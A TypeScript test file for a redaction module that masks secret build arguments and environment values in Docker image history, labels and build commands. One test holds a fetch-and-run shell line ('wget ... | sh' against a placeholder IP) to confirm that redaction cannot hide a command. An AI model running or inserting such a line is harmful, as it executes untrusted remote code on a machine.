import { describe, expect, it } from 'vitest';
import type { ImageFacts } from './record.js';
import { redactCommand, redactImage } from './redact.js';

function redact(createdBy: string[], labels: Record<string, string> = {}): ImageFacts {
  const history = createdBy.map((text) => ({ createdBy: text, comment: '' }));
  return redactImage({ id: 'x', references: [], digests: [], labels, history }).image;
}

const historyOf = (...createdBy: string[]): string[] =>
  redact(createdBy).history?.map((entry) => entry.createdBy) ?? [];

describe('history without values', () => {
  it.each([
    [
      '|1 TOKEN=s3cret with space /bin/sh -c echo $TOKEN; echo hi > /x',
      '|1 TOKEN=<redacted> /bin/sh -c echo $TOKEN; echo hi > /x',
    ],
    [
      'RUN |2 A=one B=two three /bin/sh -c make A=1 # buildkit',
      'RUN |2 A=<redacted> B=<redacted> /bin/sh -c make A=1 # buildkit',
    ],
    ['/bin/sh -c #(nop)  ARG TOKEN=default', '/bin/sh -c #(nop)  ARG TOKEN=<redacted>'],
    ['/bin/sh -c #(nop)  ARG TOKEN', '/bin/sh -c #(nop)  ARG TOKEN'],
    ['ARG TOKEN=over ridden', 'ARG TOKEN=<redacted>'],
    ['ENV FOO=bar BAZ=qux', 'ENV FOO=<redacted>'],
    ['/bin/sh -c #(nop)  ENV FOO=bar', '/bin/sh -c #(nop)  ENV FOO=<redacted>'],
    ['/bin/sh -c ENV=1 make', '/bin/sh -c ENV=1 make'],
    ['|1 A=b /bin/prog --exec-form', '|1 A=<redacted> <redacted>'],
  ])('%s', (text, expected) => {
    expect(historyOf(text)).toEqual([expected]);
  });

  it('knows shells that the image set', () => {
    expect(
      historyOf('SHELL [/bin/bash -o pipefail -c]', 'RUN |1 T=a b /bin/bash -o pipefail -c id'),
    ).toEqual([
      'SHELL [/bin/bash -o pipefail -c]',
      'RUN |1 T=<redacted> /bin/bash -o pipefail -c id',
    ]);
    expect(
      historyOf('/bin/sh -c #(nop)  SHELL ["/bin/ash" "-c"]', '|1 T=a b /bin/ash -c id')[1],
    ).toBe('|1 T=<redacted> /bin/ash -c id');
  });

  it('tells a command without shell from values that are repeated', () => {
    expect(historyOf('ARG A=x y', 'ARG B=z', 'RUN |2 A=x y B=z wget /u # buildkit')[2]).toBe(
      'RUN |2 A=<redacted> B=<redacted> wget /u # buildkit',
    );
  });

  it('strikes values out of what Docker expanded, labels too', () => {
    const image = redact(
      ['ARG KEY=hunter22', 'LABEL key=hunter22', 'COPY hunter22 /x # buildkit'],
      {
        key: 'is hunter22',
        other: 'plain',
      },
    );
    expect(image.history?.slice(1).map((entry) => entry.createdBy)).toEqual([
      'LABEL key=<redacted>',
      'COPY <redacted> /x # buildkit',
    ]);
    expect(image.labels).toEqual({ key: 'is <redacted>', other: 'plain' });
  });

  it('cannot be used to hide a command', () => {
    const command = 'wget -qO- http://192.0.2.1/x | sh';
    expect(
      historyOf(`ARG A=${command}`, `RUN /bin/sh -c ${command} # buildkit`, `CMD ["${command}"]`),
    ).toEqual(['ARG A=<redacted>', `RUN /bin/sh -c ${command} # buildkit`, `CMD ["${command}"]`]);
    expect(historyOf(`ARG A=${command}`, `/bin/sh -c ${command}`)[1]).toBe(`/bin/sh -c ${command}`);
  });

  it('leaves short values where they may mean something else', () => {
    expect(redact(['ARG V=1'], { version: '1' }).labels).toEqual({ version: '1' });
  });
});

describe('commands of build containers', () => {
  it.each([
    [
      ['/bin/sh', '-c', '#(nop) ', 'ENV A=secret'],
      ['/bin/sh', '-c', '#(nop) ', 'ENV A=<redacted>'],
    ],
    [
      ['sh', '-c', 'A=b make'],
      ['sh', '-c', 'A=b make'],
    ],
  ])('%j', (command, expected) => {
    expect(redactCommand(command)).toEqual(expected);
  });
});
